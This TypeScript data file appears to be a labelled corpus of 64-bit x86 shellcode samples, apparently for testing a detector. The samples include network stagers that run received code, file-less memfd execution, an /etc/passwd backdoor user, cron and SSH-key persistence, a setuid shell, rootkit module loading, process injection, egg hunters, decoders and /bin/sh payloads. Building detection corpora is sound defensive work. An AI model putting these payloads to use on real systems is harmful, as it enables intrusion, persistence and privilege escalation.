import type { Sample } from './sample.ts';
import { SHELL, SOCKET } from './snippets-64.ts';

/** 64-bit code that loads, hides, stays or hunts. */
export const LOADERS_64: readonly Sample[] = [
  {
    name: 'read stager into its own stack',
    bits: 64,
    source: 'xor edi, edi; sub rsp, 0x200; mov rsi, rsp; mov edx, 0x200; xor eax, eax; syscall; jmp rsi',
    chain: 'staged loader',
    traits: ['received-code'],
  },
  {
    name: 'mmap stager over a connection',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall; mov ebx, edi
      xor edi, edi; mov esi, 0x1000; mov edx, 7; mov r10d, 0x22; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall
      mov rsi, rax; mov edi, ebx; mov edx, 0x1000; xor eax, eax; syscall; jmp rsi`,
    chain: 'staged loader',
    call: 'PROT_READ|PROT_WRITE|PROT_EXEC',
  },
  {
    name: 'stager that asks for a length first',
    bits: 64,
    source: `mov ebx, 4; sub rsp, 16; mov edi, ebx; mov rsi, rsp; mov edx, 4; xor r10d, r10d; xor r8d, r8d; mov eax, 45; syscall
      mov r12d, [rsp]; xor edi, edi; mov rsi, r12; mov edx, 7; mov r10d, 0x22; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall
      mov r13, rax; mov edi, ebx; mov rsi, r13; mov rdx, r12; xor eax, eax; syscall; call r13`,
    chain: 'staged loader',
  },
  {
    name: 'stager that overwrites itself',
    bits: 64,
    source:
      'lea rsi, [rip+1f]; xor edi, edi; mov edx, 0x100; xor eax, eax; syscall; nop; nop; 1: nop; nop; nop',
    chain: 'staged loader',
  },
  {
    name: 'stager with mprotect of the stack',
    bits: 64,
    source:
      'mov rdi, rsp; and rdi, -4096; mov esi, 0x1000; mov edx, 7; mov eax, 10; syscall; mov rsi, rdi; xor edi, edi; mov edx, 0x800; xor eax, eax; syscall; push rsi; ret',
    chain: 'staged loader',
    traits: ['tainted-return', 'received-code'],
  },
  {
    name: 'memfd and /proc/self/fd',
    bits: 64,
    source: `push 0; mov rdi, rsp; mov esi, 1; mov eax, 319; syscall; mov ebx, eax; mov edi, eax; lea rsi, [rip+1f]; mov edx, 4; mov eax, 1; syscall
      lea rdi, [rip+2f]; push 0; mov rsi, rsp; xor edx, edx; mov eax, 59; syscall; 1: .byte 0x7f; .ascii "ELF"; 2: .asciz "/proc/self/fd/3"`,
    chain: 'file-less execution',
    call: 'memfd_create("", MFD_CLOEXEC)',
  },
  {
    name: 'memfd and execveat with an empty path',
    bits: 64,
    source: `lea rdi, [rip+1f]; xor esi, esi; mov eax, 319; syscall; mov edi, eax; push 0; mov rsi, rsp; xor edx, edx; xor r10d, r10d; mov r8d, 0x1000; mov eax, 322; syscall
      1: .asciz "kworker"`,
    chain: 'file-less execution',
    call: 'AT_EMPTY_PATH',
  },
  {
    name: 'a line for /etc/passwd',
    bits: 64,
    source: `lea rdi, [rip+1f]; mov esi, 0x441; xor edx, edx; mov eax, 2; syscall; mov edi, eax; lea rsi, [rip+2f]; mov edx, 20; mov eax, 1; syscall; mov eax, 60; syscall
      1: .asciz "/etc/passwd"; 2: .asciz "toor::0:0::/:/bin/sh"`,
    chain: 'persistence',
    call: 'open("/etc/passwd", O_WRONLY|O_CREAT|O_APPEND',
  },
  {
    name: 'a cron job',
    bits: 64,
    source:
      'lea rsi, [rip+1f]; mov edi, -100; mov edx, 0x241; mov r10d, 0644; mov eax, 257; syscall; mov eax, 231; syscall; 1: .asciz "/etc/cron.d/x"',
    chain: 'persistence',
    call: 'openat(AT_FDCWD, "/etc/cron.d/x"',
  },
  {
    name: 'authorized keys',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; mov esi, 0600; mov eax, 85; syscall; xor edi, edi; mov eax, 60; syscall; 1: .asciz "/root/.ssh/authorized_keys"',
    chain: 'persistence',
    call: 'creat("/root/.ssh/authorized_keys", 0600)',
  },
  {
    name: 'a set-user-ID bit',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; mov esi, 04755; mov eax, 90; syscall; mov eax, 60; syscall; 1: .asciz "/tmp/sh"',
    chain: 'privilege change',
    call: 'chmod("/tmp/sh", 04755)',
  },
  {
    name: 'a new user namespace',
    bits: 64,
    source: 'mov edi, 0x10000000; mov eax, 272; syscall; mov eax, 60; syscall',
    chain: 'privilege change',
    call: 'CLONE_NEWUSER',
  },
  {
    name: 'a kernel module by descriptor',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; xor esi, esi; mov eax, 2; syscall; mov edi, eax; lea rsi, [rip+2f]; xor edx, edx; mov eax, 313; syscall; mov eax, 60; syscall; 1: .asciz "/tmp/rk.ko"; 2: .byte 0',
    chain: 'kernel-module load',
    call: 'finit_module(3',
  },
  {
    name: 'a kernel module from memory',
    bits: 64,
    source: 'lea rdi, [rip]; mov esi, 0x1000; lea rdx, [rip]; mov eax, 175; syscall; mov eax, 60; syscall',
    chain: 'kernel-module load',
  },
  {
    name: 'injection by ptrace',
    bits: 64,
    source:
      'mov edi, 16; mov esi, 1234; xor edx, edx; xor r10d, r10d; mov eax, 101; syscall; mov edi, 4; mov rdx, 0x400000; mov r10, 0xcc; mov eax, 101; syscall; mov eax, 60; syscall',
    chain: 'process injection',
    call: 'ptrace(PTRACE_ATTACH, 1234',
  },
  {
    name: 'injection by process_vm_writev',
    bits: 64,
    source:
      'mov edi, 1234; mov rsi, rsp; mov edx, 1; mov r10, rsp; mov r8d, 1; xor r9d, r9d; mov eax, 311; syscall; mov eax, 60; syscall',
    chain: 'process injection',
    call: 'process_vm_writev(1234',
  },
  {
    name: 'injection by /proc/PID/mem',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; mov esi, 2; mov eax, 2; syscall; mov edi, eax; mov rsi, rsp; mov edx, 8; mov r10, 0x400000; mov eax, 18; syscall; mov eax, 60; syscall; 1: .asciz "/proc/77/mem"',
    chain: 'process injection',
    call: 'open("/proc/77/mem", O_RDWR',
  },
  {
    name: 'egg hunt by access',
    bits: 64,
    source: `mov edi, 0x10000; 1: or di, 0xfff; 2: inc rdi; push 21; pop rax; xor esi, esi; push rdi; add rdi, 8; syscall; pop rdi; cmp al, 0xf2; jz 1b
      mov eax, 0x50905090; cmp [rdi], eax; jnz 2b; jmp rdi`,
    chain: 'egg hunt',
  },
  {
    name: 'egg hunt by rt_sigaction',
    bits: 64,
    source:
      '1: or si, 0xfff; 2: inc rsi; push 13; pop rax; push 10; pop rdi; xor edx, edx; push 8; pop r10; syscall; cmp al, 0xf2; jz 1b; cmp dword ptr [rsi], 0x50905090; jnz 2b; jmp rsi',
    chain: 'egg hunt',
  },
  {
    name: 'from 64 to 32 bits, and a shell there',
    bits: 64,
    source: `xor edi, edi; mov edi, 0x20000; mov esi, 0x4000; mov edx, 7; mov r10d, 0x32; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall
      lea rsi, [rip+1f]; mov edi, 0x20000; mov ecx, 64; rep movsb; mov esp, 0x23000; push 0; mov dword ptr [rsp+4], 0x23; mov dword ptr [rsp], 0x20000; .byte 0xcb
      1: .code32; xor edx, edx; push edx; push 0x68732f2f; push 0x6e69622f; mov ebx, esp; xor ecx, ecx; mov eax, 11; int 0x80; .code64`,
    chain: 'shell',
    call: 'execve("/bin//sh"',
    traits: ['heavens-gate', 'stack-pivot', 'write-self'],
  },
  {
    name: 'a sled of one-byte no-operations',
    bits: 64,
    source: `.skip 64, 0x90; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'a sled of long no-operations',
    bits: 64,
    source: `.rept 20; .byte 0x0f, 0x1f, 0x84, 0, 0, 0, 0, 0; .endr; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'a sled of bytes that change nothing of use',
    bits: 64,
    source: `.rept 12; clc; cld; cmc; stc; .byte 0x98; .byte 0x99; .endr; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'decoder: xor by jmp-call-pop',
    bits: 64,
    source: `jmp 3f; 1: pop rsi; push rsi; mov ecx, 0x20; 2: xor byte ptr [rsi], 0; inc rsi; loop 2b; ret; 3: call 1b; ${SHELL}`,
    chain: 'shell',
    traits: ['load-rip', 'write-self', 'decoder-loop'],
  },
  {
    name: 'decoder: x87 get-PC and subtraction',
    bits: 64,
    source: `fldz; fnstenv [rsp-12]; pop rsi; mov esi, esi; lea rsi, [rip+3f]; mov ecx, 0x20; 2: sub byte ptr [rsi], 0; inc rsi; dec ecx; jnz 2b; 3: ${SHELL}`,
    chain: 'shell',
    traits: ['load-rip', 'decoder-loop'],
  },
  {
    name: 'decoder: SSE, sixteen bytes a step',
    bits: 64,
    source: `lea rsi, [rip+3f]; pxor xmm1, xmm1; mov ecx, 6; 2: movdqu xmm0, [rsi]; pxor xmm0, xmm1; movdqu [rsi], xmm0; add rsi, 16; dec ecx; jnz 2b; 3: ${SHELL}; .skip 80, 0x90`,
    chain: 'shell',
    traits: ['decoder-loop'],
  },
  {
    name: 'copy to new memory, and run there',
    bits: 64,
    source: `xor edi, edi; mov esi, 0x1000; mov edx, 7; mov r10d, 0x22; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall; mov rdi, rax; lea rsi, [rip+1f]; mov ecx, 64; rep movsb; jmp rax; 1: ${SHELL}`,
    chain: 'shell',
    traits: ['write-self'],
  },
];
